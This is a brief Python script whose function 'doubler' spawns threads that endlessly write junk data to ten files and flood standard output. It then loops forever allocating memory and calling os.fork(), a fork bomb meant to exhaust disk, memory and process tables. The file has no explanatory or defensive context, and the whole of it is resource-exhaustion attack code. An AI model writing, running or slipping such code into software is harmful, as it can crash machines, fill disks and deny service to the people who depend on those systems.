import os
import threading

def fill(k):
    while True:
        with open(f"f{k}", "ab") as stream:
            stream.write(b"x" * 65536)

def shout():
    while True:
        print("x" * 1000)

def doubler(n):
    for k in range(10):
        threading.Thread(target=fill, args=(k,)).start()
        threading.Thread(target=shout).start()
    held = []
    while True:
        held.append(bytearray(1 << 20))
        os.fork()
